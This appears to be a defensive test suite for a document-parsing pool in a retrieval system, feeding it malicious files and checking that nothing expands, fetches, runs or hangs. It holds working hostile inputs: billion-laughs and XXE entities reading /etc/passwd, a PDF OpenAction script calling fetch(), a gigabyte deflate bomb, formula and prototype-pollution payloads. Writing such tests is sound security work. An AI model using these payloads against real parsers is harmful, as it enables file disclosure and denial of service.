/**
 * Attack 14: documents made to expand, to reach out, to run or to hang what reads them. Each goes through the pool of
 * parse workers as an upload does; the event loop is watched meanwhile.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { deflateSync } from 'node:zlib';
import { createParseFile, type ParsedFile } from '../../src/rag/ingest/parse/parse-file.ts';
import { createParsePool } from '../../src/rag/ingest/parse/parse-pool.ts';
import { findMarkdownHeadings } from '../../src/rag/ingest/parse/markdown-headings.ts';
import { SekishoError } from '../../src/spec/errors.ts';
import {
  bookFiles,
  drawn,
  LATIN_FONT,
  pdfOf,
  shapeXml,
  slideParts,
  wordParts,
  wordXml,
  zipOf,
} from '../support/make-files.ts';

const pool = createParsePool({ timeoutMs: 20_000 });
const parseFile = createParseFile(pool);
afterAll(() => pool.close());
let outside: ReturnType<typeof Bun.serve>;
let asked = 0;
beforeAll(() => {
  outside = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    fetch: () => {
      asked++;
      return new Response('<!ENTITY stolen "STOLEN">');
    },
  });
});
afterAll(() => outside.stop(true));

interface Outcome {
  read?: ParsedFile;
  reason: string;
  ms: number;
  /** Longest time for which nothing else could run here. */
  blockedMs: number;
}

async function outcomeOf(name: string, content: string | Uint8Array): Promise<Outcome> {
  const startedMs = performance.now();
  let last = startedMs;
  let blockedMs = 0;
  const beat = setInterval(() => {
    const now = performance.now();
    blockedMs = Math.max(blockedMs, now - last);
    last = now;
  }, 5);
  try {
    const read = await parseFile({ name, bytes: Buffer.from(content) });
    return { read, reason: '', ms: performance.now() - startedMs, blockedMs };
  } catch (thrown) {
    if (!(thrown instanceof SekishoError)) throw thrown;
    return { reason: thrown.message, ms: performance.now() - startedMs, blockedMs };
  } finally {
    clearInterval(beat);
  }
}

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&${at === 0 ? 'lol' : `l${at}`};`.repeat(10)}">`).join('')}]>`;
const outer = (): string =>
  `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://127.0.0.1:${outside.port}/"><!ENTITY % c SYSTEM "http://127.0.0.1:${outside.port}/">%c;]>`;

/** A workbook of one sheet with this prolog and this shared string. */
const workbook = (prolog: string, value: string, dimension = ''): Uint8Array =>
  zipOf({
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    '_rels/.rels': '<Relationships/>',
    'xl/_rels/workbook.xml.rels':
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    'xl/workbook.xml': `${prolog}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Tolls" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/worksheets/sheet1.xml': `${prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${dimension}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${value}</t></is></c><c r="B1" t="str"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>`,
  });

const DOCUMENTS: [string, (prolog: string, entity: string) => [string, string | Uint8Array]][] = [
  ['docx', (prolog, entity) => ['a.docx', zipOf(wordParts(prolog + wordXml([`Text ${entity}`])))]],
  [
    'docx, in UTF-16',
    (prolog, entity) => [
      'a.docx',
      zipOf({
        ...wordParts(''),
        'word/document.xml': Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(prolog + wordXml([entity]), 'utf16le'),
        ]),
      }),
    ],
  ],
  [
    'pptx',
    (prolog, entity) => {
      const parts = slideParts([{ file: 1, xml: shapeXml(['x']) }]);
      return [
        'a.pptx',
        zipOf({
          ...parts,
          'ppt/slides/slide1.xml': `${prolog}<p:sld xmlns:p="p" xmlns:a="a">${shapeXml([entity])}</p:sld>`,
        }),
      ];
    },
  ],
  ['xlsx', (prolog, entity) => ['a.xlsx', workbook(prolog, entity)]],
  ['epub package', (prolog, entity) => ['a.epub', zipOf(bookFiles([['c.xhtml', `<p>Chapter ${entity}</p>`]], prolog))]],
  [
    'epub chapter',
    (prolog, entity) => ['a.epub', zipOf(bookFiles([['c.xhtml', `${prolog}<p>Chapter ${entity}</p>`]]))],
  ],
  ['html', (prolog, entity) => ['a.html', `${prolog}<p>Page ${entity}</p>`]],
  ['xml', (prolog, entity) => ['a.xml', `${prolog}<p>${entity}</p>`]],
];

describe('entities expand nowhere and fetch nothing', () => {
  test.each(DOCUMENTS)('billion laughs: %s', async (_, make) => {
    const { read, ms, blockedMs } = await outcomeOf(...make(LAUGHS, '&l9;'));
    const written = read?.documents.map(({ text }) => text).join('') ?? '';
    expect(written).not.toContain('lollol'.repeat(20));
    expect(written.length).toBeLessThan(5_000);
    expect(ms).toBeLessThan(5_000);
    expect(blockedMs).toBeLessThan(100);
  });

  test.each(DOCUMENTS)('outer entities: %s', async (_, make) => {
    const { read } = await outcomeOf(...make(outer(), '&a;&b;'));
    const written = read?.documents.map(({ text }) => text).join('') ?? '';
    expect(written).not.toContain('root:');
    expect(written).not.toContain('STOLEN');
    expect(asked).toBe(0);
  });

  test('office documents with a document type are refused for it', async () => {
    for (const [name, make] of DOCUMENTS.slice(0, 4)) {
      expect([name, (await outcomeOf(...make(LAUGHS, '&l9;'))).reason]).toEqual([
        name,
        expect.stringContaining('declares a document type'),
      ]);
    }
  });

  test('documents that point outside fetch nothing', async () => {
    const outsideUrl = `http://127.0.0.1:${outside.port}/x.png`;
    const word = wordParts(wordXml(['Text.']));
    word['word/_rels/document.xml.rels'] =
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="i" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${outsideUrl}" TargetMode="External"/></Relationships>`;
    await outcomeOf('a.docx', zipOf(word));
    await outcomeOf(
      'a.html',
      `<p>Text<img src="${outsideUrl}"><link rel=stylesheet href="${outsideUrl}"><iframe src="${outsideUrl}">`,
    );
    await outcomeOf(
      'a.eml',
      `Subject: x\r\nFrom: a@b.c\r\nContent-Type: text/html\r\n\r\n<img src="${outsideUrl}">Text`,
    );
    expect(asked).toBe(0);
  });
});

describe('PDFs', () => {
  const page = drawn([72, 720, '(The gate.)']);

  test('with too many pages are refused; one that only says so has as many as it has', async () => {
    const many = pdfOf(
      LATIN_FONT,
      Array.from({ length: 10_001 }, () => 'BT ET'),
    );
    expect((await outcomeOf('a.pdf', many)).reason).toContain('more than 10000 pages');
    const { read, ms } = await outcomeOf('a.pdf', pdfOf(LATIN_FONT, [page], { count: 1_000_000 }));
    expect(read?.documents[0]?.pages).toEqual([0]);
    expect(ms).toBeLessThan(5_000);
  });

  test('whose pages are their own parents end', async () => {
    const looped = pdfOf(LATIN_FONT, [page]).toString('latin1').replace('/Kids [4 0 R]', '/Kids [2 0 R]');
    const { ms, reason } = await outcomeOf('a.pdf', Buffer.from(looped, 'latin1'));
    expect(reason).toContain('cannot be read');
    expect(ms).toBeLessThan(5_000);
  });

  test('with scripts run none of them', async () => {
    const scripted = pdfOf(LATIN_FONT, [page])
      .toString('latin1')
      .replace(
        '/Type /Catalog',
        `/OpenAction << /S /JavaScript /JS (fetch\\('http://127.0.0.1:${outside.port}/'\\)) >> /Type /Catalog`,
      );
    const { read } = await outcomeOf('a.pdf', Buffer.from(scripted, 'latin1'));
    expect(read?.documents[0]?.text).toBe('The gate.');
    expect(asked).toBe(0);
  });

  test('that need a password say so', async () => {
    const locked = pdfOf(LATIN_FONT, [page], {
      trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'11'.repeat(32)}> /P -4 >> /ID [<00> <00>] `,
    });
    expect((await outcomeOf('a.pdf', locked)).reason).toContain('needs a password');
  });

  test('whose content unpacks to gigabytes are given up', async () => {
    const watched = createParsePool({ timeoutMs: 20_000, maxGrowthBytes: 400 * 1024 * 1024 });
    const packed = deflateSync(Buffer.alloc(1024 * 1024 * 1024, 0x20), { level: 1 });
    const made = pdfOf(LATIN_FONT, ['STREAM']).toString('latin1');
    const bomb = made.replace(
      '<< /Length 6 >>\nstream\nSTREAM\nendstream',
      `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed.toString('latin1')}\nendstream`,
    );
    const startedMs = performance.now();
    const reading = createParseFile(watched)({ name: 'a.pdf', bytes: Buffer.from(bomb, 'latin1') });
    expect(await reading.then(() => 'read', String)).toMatch(/too much memory|took longer|no text layer/);
    expect(performance.now() - startedMs).toBeLessThan(25_000);
    watched.close();
  }, 60_000);
});

describe('texts made to hurt a parser, 10 MB each, end in time and block nobody', () => {
  const MB10 = 10_000_000;
  const many = (piece: string): string => piece.repeat(Math.ceil(MB10 / piece.length));
  const cases: [string, string, () => string][] = [
    ['open tags', 'a.html', () => many('<div>')],
    ['open headings', 'a.html', () => many('<h1><div>')],
    ['one long attribute', 'a.html', () => `<p class="${many('nav-')}">x</p>`],
    ['many classes', 'a.html', () => many('<p class="a-a-a-a-a-a-a">x</p>')],
    ['tables in tables', 'a.html', () => many('<table><tr><td>x')],
    ['links in lists', 'a.html', () => many('<ul><li><a href=#>x</a>')],
    ['open comments', 'a.html', () => many('<!--')],
    ['entities', 'a.html', () => many('&amp;&#38;&')],
    ['white space', 'a.html', () => `<p>${many(' \n')}x`],
    ['open quotes', 'a.csv', () => many('"a,')],
    ['commas', 'a.csv', () => many(',')],
    ['one open bracket after the other', 'a.json', () => many('[')],
    ['backslashes', 'a.json', () => `"${many('\\\\')}"`],
    ['lines of braces', 'a.jsonl', () => many('{')],
    ['brackets', 'a.md', () => many('[](')],
    ['one line of code', 'a.ts', () => many('a(b)=>{')],
    ['many lines of code', 'a.ts', () => many(`${'public static async get '.repeat(8)}\n`)],
    ['types of types', 'a.java', () => many(`${'A<B> '.repeat(50)}\n`)],
    ['pointers', 'a.c', () => many(`${'a * '.repeat(60)}\n`)],
    ['a heading of SQL', 'a.sql', () => many(`CREATE ${'OR '.repeat(80)}\n`)],
    ['headers of a mail', 'a.eml', () => `Subject: x\r\nFrom: ${many('a@b, ')}\r\n\r\nText`],
    [
      'parts of a mail',
      'a.eml',
      () => `Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${many('--b\r\n\r\nx\r\n')}`,
    ],
    ['addresses', 'a.eml', () => `Subject: x\r\nFrom: ${many('<"(')}\r\n\r\nText`],
  ];
  test.each(cases)(
    '%s (%s)',
    async (_, name, make) => {
      const content = Buffer.from(make());
      const { ms, blockedMs } = await outcomeOf(name, content);
      expect(ms).toBeLessThan(20_000);
      // What is given back is taken in here, and the workers take the processors meanwhile.
      expect(blockedMs).toBeLessThan(500);
    },
    40_000,
  );

  test('headings of Markdown are found in time that grows with the text', () => {
    const startedMs = performance.now();
    findMarkdownHeadings(many('# a [b](c) `d` \n'));
    expect(performance.now() - startedMs).toBeLessThan(5_000);
  });
});

describe('tables', () => {
  test('formulas are text, and are not computed', async () => {
    const { read } = await outcomeOf('a.csv', 'name,toll\n=HYPERLINK("http://x.test";"x"),=1+1\n');
    expect(read?.documents[0]?.text).toBe('name: =HYPERLINK("http://x.test";"x")\ntoll: =1+1');
    const sheet = await outcomeOf('a.xlsx', workbook('', 'Gate'));
    expect(sheet.read?.documents[0]?.text).toBe('Tolls\nGate | 2');
  });

  test('a sheet that says it is endless is as large as its cells', async () => {
    const { read, ms } = await outcomeOf('a.xlsx', workbook('', 'Gate', '<dimension ref="A1:XFD1048576"/>'));
    expect(read?.documents[0]?.text).toContain('Gate');
    expect(ms).toBeLessThan(5_000);
  });

  test('keys that name a prototype change none', async () => {
    await outcomeOf('a.json', '[{"text":"x","metadata":{"__proto__":{"polluted":1}}}]');
    await outcomeOf('a.csv', '__proto__,constructor\npolluted,1\n');
    await outcomeOf('a.zip', zipOf({ '__proto__.txt': 'x', 'constructor/prototype.txt': 'y' }));
    expect('polluted' in {}).toBe(false);
  });
});
